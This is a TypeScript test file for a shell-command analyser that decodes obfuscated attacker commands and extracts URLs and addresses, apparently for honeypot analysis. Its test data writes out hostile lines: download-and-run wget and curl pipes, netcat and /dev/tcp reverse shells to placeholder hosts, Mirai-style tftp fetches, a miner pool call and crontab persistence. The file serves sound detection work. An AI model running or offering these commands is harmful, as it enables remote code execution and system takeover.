// biome-ignore-all lint/suspicious/noTemplateCurlyInString: shell syntax
import assert from 'node:assert/strict';
import { existsSync, readFileSync } from 'node:fs';
import { test } from 'node:test';
import { deflateSync, gzipSync } from 'node:zlib';
import { analyse } from './analyse.ts';

const b64 = (text: string | Buffer) => Buffer.from(text).toString('base64');
const bytes = (text: string) => Buffer.from(text).toString('latin1');
const names = (text: string) => analyse(bytes(text)).commands.map(({ name }) => name);

test('commands come in order, with the words that the line itself tells', () => {
  const cases: [line: string, commands: [name: string, ...args: string[]][]][] = [
    ['uname -a', [['uname', '-a']]],
    [
      'cat /proc/cpuinfo | grep name | wc -l',
      [
        ['cat', '/proc/cpuinfo'],
        ['grep', 'name'],
        ['wc', '-l'],
      ],
    ],
    ['cd /tmp || cd /var; ls&&id', [['cd', '/tmp'], ['cd', '/var'], ['ls'], ['id']]],
    ['h=192.0.2.1; wget "http://$h/x" -O ${o:-/tmp/y}', [['wget', 'http://192.0.2.1/x', '-O', '/tmp/y']]],
    ["'w'g\\et $'\\x61' \"b c\"", [['wget', 'a', 'b c']]],
    [
      'if [ -f x ]; then rm x; else touch x; fi',
      [
        ['[', '-f', 'x', ']'],
        ['rm', 'x'],
        ['touch', 'x'],
      ],
    ],
    ['for i in a b; do echo $i; done', [['echo', 'a']]],
    ['while :; do sleep 1; done', [[':'], ['sleep', '1']]],
    ['f() { id; }; f', [['id'], ['f']]],
    ['case $x in a) ls;; *) w;; esac', [['ls'], ['w']]],
    ['(cd /; ls) & { id; }', [['cd', '/'], ['ls'], ['id']]],
    [
      'ls -lh $(which ls)',
      [
        ['which', 'ls'],
        ['ls', '-lh', '$(which ls)'],
      ],
    ],
    ["sh -c 'wget x; id'", [['sh', '-c', 'wget x; id'], ['wget', 'x'], ['id']]],
    [
      'sudo -u root nohup timeout 5 sh -c id',
      [['sudo', '-u', 'root', 'nohup', 'timeout', '5', 'sh', '-c', 'id'], ['id']],
    ],
    ['a=wg; b=et; $a$b x', [['wget', 'x']]],
    ['x=0123wget; ${x:4:4} ${x/0123/}', [['wget', 'wget']]],
    ['rm /tmp/{a,b}', [['rm', '/tmp/a', '/tmp/b']]],
    ['eval "$(echo id)"', [['echo', 'id'], ['eval', 'id'], ['id']]],
    ['', []],
    ['# nothing', []],
  ];
  for (const [line, commands] of cases)
    assert.deepEqual(
      analyse(bytes(line)).commands.flatMap((c) => (c.name === '' ? [] : [[c.name, ...c.arguments]])),
      commands,
      line,
    );
});

test('what was encoded is told, layer by layer', () => {
  const cases: [line: string, decoded: [how: string, text: string][]][] = [
    [`echo ${b64('id; uname')} | base64 -d | sh`, [['base64', 'id; uname']]],
    [`echo "${b64('id')}"|base64 --decode|bash -s`, [['base64', 'id']]],
    [`base64 -d <<< ${b64('id -u')}`, [['base64', 'id -u']]],
    [`base64 -di <<EOF\n${b64('id -u')}\nEOF`, [['base64', 'id -u']]],
    [`x=${b64('w')}; echo $x | base64 -d | sh`, [['base64', 'w']]],
    [`eval $(echo ${b64('echo hi')} | base64 -d)`, [['base64', 'echo hi']]],
    [`eval "\`echo ${b64('id')}|base64 -d\`"`, [['base64', 'id']]],
    [`bash <(echo ${b64('id')} | base64 -d)`, [['base64', 'id']]],
    [`echo ${b64('id')} > /tmp/x; base64 -d /tmp/x | sh`, [['base64', 'id']]],
    [`echo ${b64('id')} > /tmp/x; base64 -d < /tmp/x > /tmp/y; sh /tmp/y`, [['base64', 'id']]],
    [
      `echo ${b64(`echo ${b64('id')}|base64 -d|sh`)}|base64 -d|sh`,
      [
        ['base64', `echo ${b64('id')}|base64 -d|sh`],
        ['base64', 'id'],
      ],
    ],
    [`echo ${b64('id')} | openssl base64 -d`, [['base64', 'id']]],
    [`echo ${b64('id')} | openssl enc -d -a -A | sh`, [['base64', 'id']]],
    ['echo NFSA==== | base32 -d', [['base32', 'id']]],
    ["echo -e '\\x6F\\x6B'", [['echo -e', 'ok\\n']]],
    ["/bin/busybox echo -ne '\\x45\\x43\\x48\\x4f'", [['echo -e', 'ECHO']]],
    ["echo -e '\\0151\\0144'", [['echo -e', 'id\\n']]],
    ["printf '\\151\\144'", [['printf', 'id']]],
    ["printf '\\x69%s' d | sh", [['printf', 'id']]],
    ["printf '%b' '\\x69\\x64'", [['printf', 'id']]],
    [
      "$'\\x69\\x64' $'\\055u'",
      [
        ["$'…'", 'id'],
        ["$'…'", '-u'],
      ],
    ],
    ['echo 6964 | xxd -r -p | sh', [['hex', 'id']]],
    ["echo '00000000: 6964 0a                                  id.' | xxd -r", [['hex', 'id\\n']]],
    [
      `echo ${b64(gzipSync('id'))} | base64 -d | gunzip | sh`,
      [
        ['base64', '*'],
        ['gzip', 'id'],
      ],
    ],
    [
      `echo ${b64(gzipSync('id'))} | base64 -d | gzip -dc`,
      [
        ['base64', '*'],
        ['gzip', 'id'],
      ],
    ],
    ['echo di | rev | sh', [['rev', 'id\\n']]],
    ["echo vq | tr 'a-z' 'n-za-m' | sh", [['tr', 'id\\n']]],
    ['echo "i#d" | sed "s/#//g" | sh', [['sed', 'id\\n']]],
    [`python3 -c "import base64;exec(base64.b64decode('${b64('import os')}'))"`, [['base64', 'import os']]],
    [`python -c 'exec("${b64('import os')}".decode("base64"))'`, [['base64', 'import os']]],
    [
      `python3 -c "import zlib,base64;exec(zlib.decompress(base64.b64decode(b'${b64(deflateSync('import os'))}')))"`,
      [
        ['base64', '*'],
        ['gzip', 'import os'],
      ],
    ],
    ['python3 -c "exec(bytes.fromhex(\'696d706f7274206f73\'))"', [['hex', 'import os']]],
    [`python3 -c 'exec("\\x69\\x6d\\x70\\x6f\\x72\\x74")'`, [['escapes', 'import']]],
    ["python3 -c 'exec(bytes([105,109,112,111,114,116,32,111,115]))'", [['characters', 'import os']]],
    [`perl -MMIME::Base64 -e 'eval decode_base64("${b64('print 1')}")'`, [['base64', 'print 1']]],
    ['perl -e \'system(pack("H*","6964202d75"))\'', [['hex', 'id -u']]],
    [`php -r 'eval(base64_decode("${b64('phpinfo();')}"));'`, [['base64', 'phpinfo();']]],
    [
      `echo "print('${b64('cd /tmp; wget http://a.example/x; sh x; rm x')}')" | cat`,
      [['base64', 'cd /tmp; wget http://a.example/x; sh x; rm x']],
    ],
    ['echo hello world', []],
    ['echo -e "a\\tb"', []],
    ['printf "%s\\n" x', []],
    ['cat x | base64 -d', []],
    ['echo $UNKNOWN | base64 -d', []],
    [`curl http://a.example | base64 -d`, []],
  ];
  for (const [line, expected] of cases) {
    const { decoded } = analyse(bytes(line));
    assert.deepEqual(
      decoded.map(({ how, text }, i) => [how, expected[i]?.[1] === '*' ? '*' : text]),
      expected,
      line,
    );
  }
});

test('it tells where a line leads, out of every layer', () => {
  const cases: [line: string, urls: string[], addresses: string[]][] = [
    ['wget 192.0.2.1/a.sh -O- | sh', ['http://192.0.2.1/a.sh'], ['192.0.2.1']],
    [
      'curl -o x -A "Mozilla/5.0" files.example:8080/bins.sh',
      ['http://files.example:8080/bins.sh'],
      ['files.example:8080'],
    ],
    ['tftp -g -r mirai.arm -l a 192.0.2.1', ['tftp://192.0.2.1/mirai.arm'], ['192.0.2.1']],
    ['tftp 192.0.2.1 -c get x.sh', ['tftp://192.0.2.1/x.sh'], ['192.0.2.1']],
    ['ftpget -v -u anonymous -p x -P 21 192.0.2.1 l.sh r.sh', ['ftp://192.0.2.1:21/r.sh'], ['192.0.2.1:21']],
    ['nc -e /bin/sh 192.0.2.1 4444', [], ['192.0.2.1:4444']],
    ['sh -i >& /dev/tcp/192.0.2.1/9001 0>&1', [], ['192.0.2.1:9001']],
    ['scp -P 22 x root@198.51.100.3:/tmp', [], ['198.51.100.3:22']],
    ['ssh -p 2222 evil@host.example id', [], ['host.example:2222']],
    [`echo ${b64('curl http://a.example/z|sh')}|base64 -d|sh`, ['http://a.example/z'], []],
    ["echo -e '\\x68\\x74\\x74\\x70\\x3a\\x2f\\x2f\\x61\\x2e\\x62\\x2f\\x63'", ['http://a.b/c'], []],
    [
      'for a in arm mips; do wget http://192.0.2.1/$a; done',
      ['http://192.0.2.1/arm', 'http://192.0.2.1/mips'],
      ['192.0.2.1'],
    ],
    ['wget http://192.0.2.1/{x86,arm}', ['http://192.0.2.1/x86', 'http://192.0.2.1/arm'], ['192.0.2.1']],
    ['./xmrig -o pool.example:3333 -u w', [], ['pool.example:3333']],
    ['(crontab -l; echo "* * * * * curl http://a.example/c") | crontab -', ['http://a.example/c'], []],
    ["cat <<'E' > x.sh\nwget http://a.example/h\nE", ['http://a.example/h'], []],
    ['wget http://a.example/x; )( broken', ['http://a.example/x'], []],
    ['ping -c 1 192.0.2.8', [], ['192.0.2.8']],
    ['wget x.sh; cat a.txt; ls 1.2', [], []],
  ];
  for (const [line, urls, addresses] of cases) {
    const found = analyse(bytes(line));
    assert.deepEqual([found.urls, found.addresses], [urls, addresses], line);
  }
});

test('nothing that is shown can act on a terminal', () => {
  const hostile = [
    "echo \x1b[31m\u202e; ls '\x07'",
    "echo -e '\\x1b[2J\\x9b'",
    `echo ${b64('\x1b]0;x\x07\r\n\u2028')} | base64 -d`,
    'wget http://a.example/\u202e/x',
    'echo ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFu/eMJJpUQTgQybSDsomSliNB5A6KU9DHPtqOZG7DjR a\x1bb',
  ];
  for (const line of hostile)
    assert.doesNotMatch(
      JSON.stringify(Object.values(analyse(bytes(line))), (_, v) => v),
      /[\x00-\x1f\x7f-\x9f\u2028-\u202e]|\\u00[019]/,
      line,
    );
});

test('names that every object has are commands like any other', () => {
  for (const name of ['constructor', '__proto__', 'toString', 'hasOwnProperty', 'valueOf'])
    assert.deepEqual(names(`${name} x | ${name}; busybox ${name}`), [name, name, 'busybox'], name);
});

test('lines of any shape are read in bounded time and give bounded results', () => {
  const size = 128 << 10;
  const fill = (unit: string) => unit.repeat(Math.ceil(size / unit.length)).slice(0, size);
  let nested = 'id';
  for (let i = 0; i < 12; i++) nested = `echo ${b64(nested)}|base64 -d|sh`;
  const doubling = Array.from({ length: 40 }, (_, i) => `a${i + 1}=$a${i}$a${i}`).join(';');
  const hostile = [
    ...[
      'echo a;',
      'a|',
      '$(',
      '${',
      '(',
      '((',
      '{',
      '{a,',
      '"',
      "'",
      '`',
      '\\x41',
      'a=b;',
      'x=${x//a/aa};',
      'eval ',
      'for i in a b;do ',
      '<<E\n',
      'if ',
      '$((',
      '[',
      'case a in ',
      '"$(',
      'http://a/ ',
    ].map(fill),
    `echo -e '${fill('\\x41')}'`,
    `echo ${fill('QUJD')} | base64 -d | base64 -d | base64 -d`,
    `python -c "${fill('b64decode(')}"`,
    `python -c "${fill("['1,'")}"`,
    `python -c "${fill('[1,')}"`,
    `python -c '${fill('"\\x41')}'`,
    `python -c '${fill('"aaaa')}'`,
    `echo ${fill('a{b,')}`,
    `printf '${fill('%s')}' ${'a '.repeat(500)}`,
    `printf '%99999d' 1`,
    `tr '${fill('a-z')}' b <<< x`,
    `a0=aaaaaaaaaaaaaaaa;${doubling};echo $a40`,
    'for a in 1 2 3 4 5 6 7 8;do for b in 1 2 3 4 5 6 7 8;do for c in 1 2 3 4 5 6 7 8;do for d in 1 2 3 4 5 6 7 8;do for e in 1 2 3 4 5 6 7 8;do echo $a$b;done;done;done;done;done',
    `echo ${b64(gzipSync(Buffer.alloc(64 << 20)))} | base64 -d | gunzip | gunzip`,
    nested,
    'x=eval; x="$x $x"; eval "$x"',
    'f() { f; }; f',
    'eval \'eval "eval \\"eval id\\""\'',
  ];
  for (const line of hostile) {
    const before = process.cpuUsage();
    const found = analyse(line);
    const { user, system } = process.cpuUsage(before);
    const name = JSON.stringify(line.slice(0, 60));
    if (process.env['SHOW']) console.log(Math.round((user + system) / 1000), name);
    assert.ok(user + system < 3_000_000, `${name} took ${(user + system) / 1000} ms of CPU`);
    assert.ok(JSON.stringify(found).length < 1 << 20, `${name} gives ${JSON.stringify(found).length} characters`);
  }
});

const file = process.env['KANSATSUKI_ATTACKER_COMMANDS'] ?? '';
test('lines of real attackers', { skip: !existsSync(file) && 'no data' }, () => {
  const lines = readFileSync(file, 'utf8')
    .split('\n')
    .filter((line) => line !== '')
    .map((line) => (JSON.parse(line) as { command: string }).command);
  for (const line of lines) {
    const { urls, decoded } = analyse(bytes(line));
    const hosts = [...line.matchAll(/\bhttps?:\/\/(\d+\.\d+\.\d+\.\d+)/g)].map(([, host]) => host);
    for (const host of hosts)
      assert.ok(
        urls.some((url) => url.includes(host!)),
        line,
      );
    if (/^(?:\/bin\/busybox )?echo -n?en? (['"])(?:\\+x[0-9a-f]{2})+\1$/i.test(line))
      assert.equal(decoded.length, 1, line);
  }
  assert.equal(names('echo -e "\\x6F\\x6B"')[0], 'echo');
});
